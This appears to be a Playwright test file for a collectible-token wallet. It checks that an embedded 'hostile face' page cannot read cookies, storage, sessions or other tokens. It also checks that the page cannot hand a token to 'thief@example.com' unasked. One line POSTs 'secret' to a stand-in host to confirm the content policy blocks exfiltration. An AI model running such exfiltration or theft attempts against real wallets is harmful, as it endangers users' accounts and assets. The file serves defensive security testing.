import type { Locator, Page } from '@playwright/test'
import { objectDefinition } from '@vitrine/fixtures'
import { hostile } from '../src/console-errors.ts'
import { type Attempts, hostilePage } from '../src/hostile-face.ts'
import type { PersonAtBrowser } from '../src/person.ts'
import { expect, long, test } from '../src/test.ts'

const titleOf = (definition: string) => objectDefinition(definition).meta.displayName

/** What the third face is called, by what one does with it. */
const inUse = /^(Watch|Listen|Turn|Play|Progress|Inside|Close-up)$/

async function openInUse(person: PersonAtBrowser, definition: string): Promise<void> {
  await person.openToken(titleOf(definition))
  await person.page.getByRole('radio', { name: inUse }).click()
}

interface WireToken {
  id: string
  state: { 'studio-info-v1': { objectDefinitionId: string } }
  viewPlacements: unknown[]
}

/** Gives every token of a design another view, as a brand could have; answers with the ids of all tokens that came by. */
async function showInstead(page: Page, definition: string, view: object): Promise<Set<string>> {
  const seen = new Set<string>()
  await page.route(/\/api\/vatoms\/(user-inventory\/search|read|[0-9a-f-]{36})$/, async (route) => {
    const response = await route.fetch()
    if (!response.ok()) return route.fulfill({ response })
    const reply = (await response.json()) as { data?: WireToken | { items: WireToken[] }; items?: WireToken[] }
    const { items, data = { items: items ?? [] } } = reply
    for (const token of 'items' in data ? data.items : [data]) {
      if (!token?.state) continue
      if (token.state['studio-info-v1'].objectDefinitionId === definition)
        token.viewPlacements.push({ placeholderId: 'engaged', view })
      else seen.add(token.id)
    }
    await route.fulfill({ response, json: reply })
  })
  return seen
}

test('a hostile face learns of no other token, no session and no host, and leads the wallet nowhere', async ({
  open,
  server,
  provokes,
}) => {
  provokes(...hostile)
  const bo = await open()
  const { page } = bo
  const design = 'parade-poster-whale'
  const publisher = objectDefinition(design).businessId
  const others = await showInstead(page, design, {
    type: 'web',
    url: 'https://hostile.example/',
    config: {},
    sandbox: [],
    alt: '',
  })
  await bo.signIn('bo@example.com')
  await bo.tokenCase('').first().waitFor()
  const [other = ''] = others
  await page
    .context()
    .route('https://hostile.example/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: hostilePage(other, server.url) }),
    )
  await openInUse(bo, design)
  const address = page.url()
  const face = page.frameLocator('iframe')
  // It tries to delete, which the person is asked about.
  await page.getByRole('alertdialog').getByRole('button', { name: 'Don’t allow' }).click()
  await expect(face.locator('#result')).toContainText('v1 init')
  const got = JSON.parse(await face.locator('#result').innerText()) as Attempts

  const keptOut = [
    'parent document',
    'parent storage',
    'own storage',
    'cookies',
    'wallet address',
    'api',
    'top navigation',
    'popup',
    'camera',
  ]
  expect(Object.fromEntries(keptOut.map((name) => [name, got[name]]))).toEqual(
    Object.fromEntries(keptOut.map((name) => [name, 'kept out'])),
  )
  expect(got.welcome).toBe('config granted surroundings token version view')
  expect(got['own token']).toBe(titleOf(design))
  for (const method of ['session.get', 'inventory.list', 'host.call', '__proto__', 'constructor']) {
    expect([method, got[method]]).toEqual([method, 'refused: denied'])
  }
  for (const name of ['v2 another token', 'v2 children of another', 'v2 act on another', 'v1 another token']) {
    expect([name, got[name]]).toEqual([name, expect.stringMatching(/denied/)])
  }
  // Of the same publisher it may know what lies beside its token, and of nobody else's.
  const { 'v2 inventory': inventory = '', ...rest } = got
  const beside: { 'vAtom::vAtomType': { publisher_fqdn: string } }[] = JSON.parse(inventory).payload.vatoms
  expect([...new Set(beside.map((each) => each['vAtom::vAtomType'].publisher_fqdn))]).toEqual([publisher])
  expect([got['v2 init'], got['v1 init']]).toEqual(['own token', 'own token'])
  expect(Object.values(rest).join(' ')).not.toContain(other)
  expect(page.url()).toBe(address)
  expect(page.context().pages()).toHaveLength(1)
})

test(
  'before a face gives its token away the person is asked, and no means no',
  long,
  async ({ open, server, provokes }) => {
    provokes(...hostile)
    const bo = await open()
    const { page } = bo
    const design = 'parade-poster-whale'
    await showInstead(page, design, { type: 'web', url: 'https://hostile.example/', config: {}, sandbox: [], alt: '' })
    await page
      .context()
      .route('https://hostile.example/**', (route) =>
        route.fulfill({ contentType: 'text/html', body: hostilePage('none', server.url) }),
      )
    await bo.signIn('bo@example.com')
    await openInUse(bo, design)
    // The page's own try to delete is asked about first.
    const question = page.getByRole('alertdialog')
    await expect(question).toContainText('Delete')
    await question.press('Escape')
    const face = page.frameLocator('iframe')
    await expect(face.locator('#result')).toContainText('another token by ours')
    await face.getByRole('button', { name: 'Claim' }).click()
    await expect(question).toContainText('to thief@example.com?')
    await question.getByRole('button', { name: 'Don’t allow' }).click()
    await expect(face.locator('#result')).toContainText('refused: refused_by_person')
    await expect(page.getByRole('heading', { level: 1, name: titleOf(design) })).toBeVisible()
  },
)

test('a scratch card is played in its own page, in the language and light of the wallet', long, async ({ open }) => {
  const ana = await open({ colorScheme: 'dark' })
  await ana.signIn('ana@example.com')
  await openInUse(ana, 'lumen-daily-scratch')
  const card = ana.page.frameLocator('iframe')
  await expect(card.locator('html')).toHaveAttribute('data-theme', 'dark')
  await card.getByRole('button', { name: 'Scratch it for me' }).click()
  await expect(card.locator('#result')).toHaveText(/You have won|Nothing today/)
})

/** Whether anything was drawn, as the sum of what is not see-through. */
const inkOf = (canvas: Locator) =>
  canvas.evaluate((element) => {
    const { width, height } = element as HTMLCanvasElement
    const { data } = (element as HTMLCanvasElement).getContext('2d')?.getImageData(0, 0, width, height) ?? { data: [] }
    let ink = 0
    for (let at = 3; at < data.length; at += 4) ink += data[at] ?? 0
    return ink
  })

test(
  'a sculpture is drawn, turned with the keys, and stands as a picture where its model cannot be had',
  long,
  async ({ open }) => {
    // Without a graphics card the browser draws with the processor.
    test.slow()
    const chen = await open()
    const { page } = chen
    await chen.signIn('chen@example.com')
    // Its corners are packed by Draco, its texture by KTX2.
    await openInUse(chen, 'marea-amphora')
    const piece = page.getByRole('application', { name: /amphora/ })
    await expect(piece).toHaveAttribute('aria-busy', 'false')
    const canvas = piece.locator('canvas')
    await expect.poll(() => inkOf(canvas)).toBeGreaterThan(100_000)
    const before = await canvas.evaluate((element) => (element as HTMLCanvasElement).toDataURL())
    await piece.focus()
    await page.keyboard.press('ArrowRight')
    await expect.poll(() => canvas.evaluate((element) => (element as HTMLCanvasElement).toDataURL())).not.toBe(before)

    await page.route('**/*.glb', (route) => route.fulfill({ status: 404 }))
    await page.goto('/')
    await openInUse(chen, 'marea-moon-jelly')
    await expect(page.getByRole('figure').getByRole('img').first()).toBeVisible()
    await expect(page.getByRole('application')).toHaveCount(0)
  },
)

test(
  'a sculpture that its brand keeps on a server of its own is drawn, while the page itself may ask nobody but the wallet’s',
  long,
  async ({ open, server, provokes }) => {
    // The page itself is made to ask there, and may not.
    provokes('https://models.example/')
    test.slow()
    const bo = await open()
    const { page } = bo
    const design = 'parade-poster-whale'
    await showInstead(page, design, {
      type: 'scene-3d',
      url: 'https://models.example/jelly.glb',
      poster: null,
      environment: { preset: 'gallery', intensity: 1 },
      animationRules: [],
      camera: { azimuth: 25, elevation: 12, distance: 1, autoRotate: false },
      alt: 'A jelly',
    })
    const asked: string[] = []
    await page.context().route('https://models.example/**', async (route) => {
      asked.push(JSON.stringify(await route.request().allHeaders()))
      const model = await page.request.get(`${server.url}/media/demo/marea/moon-jelly.glb`)
      await route.fulfill({
        body: await model.body(),
        contentType: 'model/gltf-binary',
        headers: { 'access-control-allow-origin': '*' },
      })
    })
    await page.addInitScript(() => {
      const refused: string[] = []
      Object.assign(window, { refused })
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        if (effectiveDirective === 'connect-src') refused.push(blockedURI)
      })
    })
    await bo.signIn('bo@example.com')
    await openInUse(bo, design)
    await expect(page.getByRole('application', { name: 'A jelly' })).toHaveAttribute('aria-busy', 'false')
    const refused = () => page.evaluate(() => (window as unknown as { refused: string[] }).refused)
    expect(await refused()).toEqual([])
    expect(asked).toHaveLength(1)
    expect(asked[0]).not.toMatch(/cookie|authorization|referer/i)

    // A script that should not be there can send nothing home.
    const sent = page.evaluate(() =>
      fetch('https://models.example/', { method: 'POST', body: 'secret', mode: 'no-cors' }),
    )
    await expect(sent).rejects.toThrow(/Failed to fetch/)
    await expect.poll(refused).toEqual(['https://models.example/'])
    expect(asked).toHaveLength(1)
  },
)

test(
  'a film is silent until asked and has its captions; where it cannot be played the object is shown',
  long,
  async ({ open }) => {
    const bo = await open()
    const { page } = bo
    await bo.signIn('bo@example.com')
    await openInUse(bo, 'parade-lantern-star')
    const film = page.locator('video')
    await expect.poll(() => film.evaluate((video: HTMLVideoElement) => video.readyState)).toBeGreaterThanOrEqual(2)
    expect(await film.evaluate((video: HTMLVideoElement) => [video.muted, video.textTracks.length])).toEqual([true, 2])

    await page.route('**/lantern-star.webm', (route) => route.fulfill({ contentType: 'video/webm', body: 'no film' }))
    await page.goto('/')
    await openInUse(bo, 'parade-lantern-star')
    await expect(page.locator('video')).toHaveCount(0)
    await expect(page.getByRole('figure').getByRole('img').first()).toBeVisible()
  },
)
